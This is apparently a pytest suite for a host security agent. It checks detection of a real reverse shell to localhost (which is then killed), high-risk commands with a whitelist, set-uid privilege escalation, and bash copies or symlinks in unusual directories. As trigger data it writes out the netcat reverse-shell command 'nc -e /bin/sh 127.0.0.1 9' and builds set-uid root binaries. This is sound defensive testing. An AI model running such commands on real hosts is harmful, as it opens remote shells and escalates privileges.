"""Process threats with real processes: a real reverse shell seen through the proc connector and the /proc
polling fallback (and killed by policy), high-risk commands, set-uid escalation, file and shell changes."""

from __future__ import annotations

import os
import queue
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from hostward.agent.collectors.filemodes import collect_setid, collect_shells
from hostward.agent.collectors.proccn import ProcessCollector
from hostward.agent.detectors import DetectorSet, Observation
from hostward.agent.detectors.highrisk import HighRiskCommandDetector
from hostward.agent.detectors.privesc import PrivilegeEscalationDetector
from hostward.agent.detectors.revshell import ReverseShellDetector
from hostward.agent.detectors.setid import SETID_FILES, FilePrivilegeEscalationDetector
from hostward.agent.detectors.shells import SHELL_SNAPSHOT, AbnormalShellDetector
from hostward.agent.enforcers.process import ProcessKiller
from hostward.agent.malware import MountTable
from hostward.wire import AlarmEvent, PolicyBundle, PolicyState
from tests.attacks import reverse_shell
from tests.conftest import need

pytestmark = pytest.mark.slow
WAIT_S = 10.0


class Pipeline:
    """Collector -> detectors (one lock, as the runtime serialises feeding) -> timestamped alarms."""

    def __init__(self, detectors: DetectorSet, mode: str) -> None:
        self.detectors = detectors
        self.alarms: queue.Queue[tuple[float, AlarmEvent]] = queue.Queue()
        self._lock = threading.Lock()
        self.collector = ProcessCollector(self._emit, mode=mode, snapshot=False)  # type: ignore[arg-type]

    def _emit(self, obs: Observation) -> None:
        with self._lock:
            events = self.detectors.feed(obs, datetime.now(UTC))
        for e in events:
            if isinstance(e, AlarmEvent):
                self.alarms.put((time.monotonic(), e))

    def wait_for(
        self, code: str, pid: int | None = None, marker: str = "", timeout: float = WAIT_S
    ) -> tuple[float, AlarmEvent] | None:
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            try:
                at, alarm = self.alarms.get(timeout=left)
            except queue.Empty:
                return None
            if alarm.event_class != code:
                continue
            if pid is not None and alarm.evidence.get("pid") != pid:
                continue
            if marker and marker not in alarm.evidence.get("process_cmdline", ""):
                continue
            return at, alarm
        return None


@pytest.fixture
def pipeline_factory() -> Iterator[list[Pipeline]]:
    made: list[Pipeline] = []
    yield made
    for p in made:
        p.collector.stop()


def start(made: list[Pipeline], detectors: list[object], mode: str) -> Pipeline:
    p = Pipeline(DetectorSet(detectors), mode)  # type: ignore[arg-type]
    made.append(p)
    p.collector.start()
    assert p.collector.ready.wait(WAIT_S)
    if mode == "connector":
        assert p.collector.active_mode == "connector"
        assert p.collector.health().status == "running"
    else:
        health = p.collector.health()
        assert health.status == "degraded" and "polling /proc every 0.5 s" in health.reason
    return p


@pytest.mark.parametrize("mode", ["connector", "poll"])
def test_real_reverse_shell_detected_within_a_second_and_killed(
    mode: str, pipeline_factory: list[Pipeline]
) -> None:
    need("root", "proc connector and /proc/<pid>/fd of other processes")
    detector = ReverseShellDetector(standalone=True, auto_kill=True)
    pipe = start(pipeline_factory, [detector], mode)
    with reverse_shell(timeout=WAIT_S) as rs:
        got = pipe.wait_for("malware_0002", pid=rs.shell.pid)
        assert got is not None, f"no reverse-shell alarm ({mode}): {pipe.collector.stats}"
        at, alarm = got
        latency = at - rs.started_mono
        assert latency < 1.0, f"{mode}: alarm {latency:.3f} s after exec"
        ev = alarm.evidence
        assert ev["remote_address"] == f"127.0.0.1:{rs.port}" and ev["process_path"].endswith("/bash")
        assert ev["auto_kill"] is True
        # only ours: other shells on a busy test host may have socket stdio too (remote-exec tooling)
        (request,) = [r for r in detector.take_kill_requests() if r.pid == rs.shell.pid]
        result = ProcessKiller().kill_tree(request.pid, start=request.start_ticks, alarm_id=request.alarm_key)
        assert rs.shell.pid in result.killed and not result.failed
        rs.shell.wait(WAIT_S)  # (psutil may already have reaped our child: Popen then reports 0)
        assert not os.path.exists(f"/proc/{rs.shell.pid}")
        rs.wait_hung_up(WAIT_S)


def test_high_risk_command_raised_and_whitelisted_one_not(pipeline_factory: list[Pipeline]) -> None:
    need("root", "proc connector")
    detector = HighRiskCommandDetector()
    detector.configure(
        PolicyBundle(
            version=1,
            group_id=None,
            group_name=None,
            edition="premium",
            protection=True,
            policies={
                "high_risk_command": PolicyState(
                    enabled=True,
                    settings={"whitelist": [{"process_path": "python", "cmdline": "hw-allowed-marker"}]},
                )
            },
        )
    )
    pipe = start(pipeline_factory, [detector], "connector")
    code = "import time; time.sleep(2)"
    risky = subprocess.Popen([sys.executable, "-c", code, "hw-risky-marker", "nc -e /bin/sh 127.0.0.1 9"])
    allowed = subprocess.Popen([sys.executable, "-c", code, "hw-allowed-marker", "nc -e /bin/sh 127.0.0.1 9"])
    try:
        got = pipe.wait_for("procreport_0001", marker="hw-risky-marker")
        assert got is not None, pipe.collector.stats
        assert got[1].evidence["patterns"] == ["netcat-exec"] and got[1].evidence["pid"] == risky.pid
        assert pipe.wait_for("procreport_0001", marker="hw-allowed-marker", timeout=2.5) is None
        assert detector.health().counters["whitelisted"] >= 1
    finally:
        for p in (risky, allowed):
            p.kill()
            p.wait(WAIT_S)


@pytest.fixture
def world_dir() -> Iterator[Path]:
    # a directory an unprivileged user can enter (pytest's tmp_path is root-only)
    d = Path(tempfile.mkdtemp(prefix="hw-privesc-", dir="/var/tmp"))
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def test_setuid_escalation_by_an_unprivileged_user(pipeline_factory: list[Pipeline], world_dir: Path) -> None:
    need("root", "set-uid copy and setpriv to another uid")
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) not installed")
    sleeper = world_dir / "helper"
    shutil.copy2("/bin/sleep", sleeper)
    os.chmod(sleeper, 0o4755)  # a set-uid root copy: not a sanctioned program
    detector = PrivilegeEscalationDetector(standalone=True)
    pipe = start(pipeline_factory, [detector], "connector")
    user_shell = subprocess.Popen(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", f"{sleeper} 2; true"]
    )
    try:
        got = pipe.wait_for("procdet_0002")
        assert got is not None, pipe.collector.stats
        ev = got[1].evidence
        assert ev["process_path"] == str(sleeper) and ev["ruid"] == 65534 and ev["euid"] == 0
        assert ev["parent_euid"] == 65534
    finally:
        user_shell.kill()
        user_shell.wait(WAIT_S)


def test_chmod_u_plus_s_on_a_copied_binary(tmp_path: Path) -> None:
    copy = tmp_path / "bin" / "true"
    copy.parent.mkdir()
    shutil.copy2("/bin/true", copy)
    detector = FilePrivilegeEscalationDetector(standalone=True)
    now = datetime.now(UTC)
    assert detector.feed(Observation(SETID_FILES, collect_setid([str(tmp_path)], MountTable([]))), now) == []
    os.chmod(copy, os.stat(copy).st_mode | stat.S_ISUID)
    (alarm,) = detector.feed(Observation(SETID_FILES, collect_setid([str(tmp_path)], MountTable([]))), now)
    assert alarm.event_class == "fileprotect_0001" and alarm.evidence["file_path"] == str(copy)
    assert alarm.evidence["setid"] == "setuid" and alarm.evidence["file_hash"]


def test_shell_copied_and_linked_to_odd_places(tmp_path: Path) -> None:
    odd = tmp_path / "shm"
    odd.mkdir()
    detector = AbnormalShellDetector(standalone=True)
    now = datetime.now(UTC)
    assert (
        detector.feed(
            Observation(SHELL_SNAPSHOT, collect_shells(dirs=[str(odd)], mounts=MountTable([]))), now
        )
        == []
    )
    shutil.copy2(os.path.realpath("/bin/bash"), odd / ".b")
    (odd / "sh-link").symlink_to("/bin/bash")
    alarms = detector.feed(
        Observation(SHELL_SNAPSHOT, collect_shells(dirs=[str(odd)], mounts=MountTable([]))), now
    )
    assert sorted((Path(a.evidence["file_path"]).name, a.evidence["change"]) for a in alarms) == [
        (".b", "copy"),
        ("sh-link", "symlink"),
    ]
    assert all(a.event_class == "malware_0001" for a in alarms)
